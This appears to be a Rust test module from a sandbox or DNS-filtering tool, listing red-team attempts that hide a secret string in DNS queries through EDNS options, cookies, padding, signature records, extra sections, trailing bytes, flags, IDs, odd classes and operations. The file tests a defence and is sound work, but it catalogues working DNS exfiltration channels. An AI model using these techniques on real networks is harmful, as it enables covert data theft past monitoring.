//! Data in questions for names that are allowed: of the message, only the name, the type and
//! three flags go to the server.

use anyhow::Result;
use nix::libc;

use super::{Family, Ground, exchange, exchange_by_tcp, look_at_server, question, told};
use crate::attempt::{Attempt, write};
use crate::field::Field;
use crate::network::dns::{self, Message, kind};
use crate::network::nameserver::Needle;
use crate::sys::Try;

/// What is to leave.
const SECRET: &[u8] = b"SeCReT-of-the-red-team";
/// Flags that mean nothing in a question: AA, TC, RA, the reserved one, and a result.
const ODD: u16 = 0x06cf;
const RESPONSE: u16 = 0x8000;
/// Another number than other attempts use.
const NUMBER: u16 = 0xbeef;
/// Operations.
const INVERSE: u16 = 1 << 11;
const NOTIFY: u16 = 4 << 11;
const UPDATE: u16 = 5 << 11;

/// The control is an untagged process, whose message goes to the server as it is.
const fn hidden(id: &'static str, attack: fn(&Field) -> Try) -> Attempt {
    write(id, attack)
        .prepare(|field| lay(field, Needle::Bytes(SECRET.to_vec())))
        .look(look_at_server)
        .never()
}

fn lay(field: &Field, needle: Needle) -> Result<()> {
    Ground {
        needle,
        ..Ground::asking(Family::V4, &[b"@", b"ok", b"test"])
    }
    .lay(field)
}

pub const ATTEMPTS: &[Attempt] = &[
    hidden("net-dns-hidden-edns-option", |field| {
        say(field, &plain(field).with(3, option()))
    }),
    hidden("net-dns-hidden-edns-cookie", |field| {
        let cookie = dns::options(&dns::option(10, &SECRET[..16]));
        say(field, &plain(field).with(3, cookie))
    })
    .prepare(|field| lay(field, Needle::Bytes(SECRET[..16].to_vec()))),
    hidden("net-dns-hidden-edns-subnet", |field| {
        // The client's network: family, bits, and an address.
        let subnet = [&[0, 1, 32, 0][..], b"SeCR"].concat();
        let options = dns::options(&dns::option(8, &subnet));
        say(field, &plain(field).with(3, options))
    })
    .prepare(|field| lay(field, Needle::Bytes(b"SeCR".to_vec()))),
    hidden("net-dns-hidden-edns-padding", |field| {
        let options = dns::options(&dns::option(12, SECRET));
        say(field, &plain(field).with(3, options))
    }),
    hidden("net-dns-hidden-edns-size", |field| {
        let record = dns::record(&[0], kind::OPT, 0x5365, 0, &[]);
        say(field, &plain(field).with(3, record))
    })
    .prepare(|field| lay(field, Needle::Bytes(vec![0, 0, 41, 0x53, 0x65]))),
    hidden("net-dns-hidden-edns-flags", |field| {
        let record = dns::record(&[0], kind::OPT, 1232, 0x5347, &[]);
        say(field, &plain(field).with(3, record))
    })
    .prepare(|field| lay(field, Needle::Bytes(vec![0, 0, 0x53, 0x47, 0, 0]))),
    hidden("net-dns-hidden-edns-version", |field| {
        let record = dns::record(&[0], kind::OPT, 1232, 0x53_0000, &[]);
        say(field, &plain(field).with(3, record))
    })
    .prepare(|field| lay(field, Needle::Bytes(vec![0, 0x53, 0, 0, 0, 0]))),
    hidden("net-dns-hidden-additional-record", |field| {
        say(field, &plain(field).with(3, text()))
    }),
    hidden("net-dns-hidden-signature-record", |field| {
        // TSIG, which comes last.
        let record = dns::record(&dns::dotted("key.test"), 250, 255, 0, SECRET);
        say(field, &plain(field).with(3, record))
    }),
    hidden("net-dns-hidden-answer-record", |field| {
        say(field, &plain(field).answer(text()))
    })
    .refused_as(libc::EBADMSG),
    hidden("net-dns-hidden-authority-record", |field| {
        say(field, &plain(field).with(2, text()))
    })
    .refused_as(libc::EBADMSG),
    hidden("net-dns-hidden-second-question", |field| {
        let second = dns::asking(&dns::labels(&[SECRET, b"evil", b"test"]), kind::A, dns::IN);
        say(field, &plain(field).with(0, second))
    })
    .refused_as(libc::EBADMSG),
    hidden("net-dns-hidden-trailing-bytes", |field| {
        say(field, &plain(field).trailing(SECRET))
    }),
    hidden("net-dns-hidden-trailing-bytes-tcp", |field| {
        let message = plain(field).trailing(SECRET).bytes();
        told(&exchange_by_tcp(field, &message)?)
    }),
    hidden("net-dns-hidden-trailing-long", |field| {
        let message = plain(field).trailing(&SECRET.repeat(1_000));
        told(&exchange_by_tcp(field, &message.bytes())?)
    })
    .refused_as(libc::EBADMSG),
    hidden("net-dns-hidden-upper-case", |field| {
        let mut message = question(field);
        message[dns::HEADER..].make_ascii_uppercase();
        told(&exchange(field, &message)?)
    })
    .prepare(|field| lay(field, Needle::Bytes(b"\x02OK\x04TEST".to_vec()))),
    hidden("net-dns-hidden-header-flags", |field| {
        say(field, &plain(field).flags(ODD))
    })
    .prepare(|field| lay(field, Needle::Flags(ODD))),
    hidden("net-dns-hidden-number", |field| {
        let message = Message {
            number: NUMBER,
            ..plain(field)
        };
        say(field, &message)?;
        say(field, &message)
    })
    .prepare(|field| lay(field, Needle::Number(NUMBER))),
    hidden("net-dns-hidden-class", |field| asked(field, dns::CHAOS))
        .prepare(|field| lay(field, Needle::Name))
        .refused_as(libc::EACCES),
    hidden("net-dns-hidden-class-odd", |field| asked(field, 0x5365))
        .prepare(|field| lay(field, Needle::Name))
        .refused_as(libc::EACCES),
    hidden("net-dns-hidden-operation-inverse", |field| {
        say(field, &plain(field).flags(INVERSE))
    })
    .prepare(|field| lay(field, Needle::Name))
    .refused_as(libc::EOPNOTSUPP),
    hidden("net-dns-hidden-operation-notify", |field| {
        say(field, &plain(field).flags(NOTIFY))
    })
    .prepare(|field| lay(field, Needle::Name))
    .refused_as(libc::EOPNOTSUPP),
    hidden("net-dns-hidden-operation-update", |field| {
        say(field, &plain(field).flags(UPDATE).with(2, text()))
    })
    .refused_as(libc::EOPNOTSUPP),
    hidden("net-dns-hidden-as-response", as_response)
        .prepare(|field| lay(field, Needle::Name))
        .refused_as(libc::EAGAIN),
];

fn plain(field: &Field) -> Message {
    Message::query(&field.noted_bytes("name"), kind::A)
}

fn say(field: &Field, message: &Message) -> Try {
    told(&exchange(field, &message.bytes())?)
}

fn asked(field: &Field, class: u16) -> Try {
    let mut message = plain(field);
    message.sections[0] = vec![dns::asking(&field.noted_bytes("name"), kind::A, class)];
    say(field, &message)
}

fn option() -> Vec<u8> {
    dns::options(&dns::option(65_001, SECRET))
}

fn text() -> Vec<u8> {
    let text = [&[SECRET.len() as u8][..], SECRET].concat();
    dns::record(&[0], kind::TXT, dns::IN, 0, &text)
}

/// Nothing answers what is an answer itself.
fn as_response(field: &Field) -> Try {
    let server = field.noted_bytes("server");
    let socket = crate::network::wire::socket_to(&server, libc::SOCK_DGRAM)?;
    let message = plain(field).flags(RESPONSE).bytes();
    crate::network::wire::send_bytes_to(&socket, &message, &server, 0)?;
    told(&super::received(&socket)?)
}
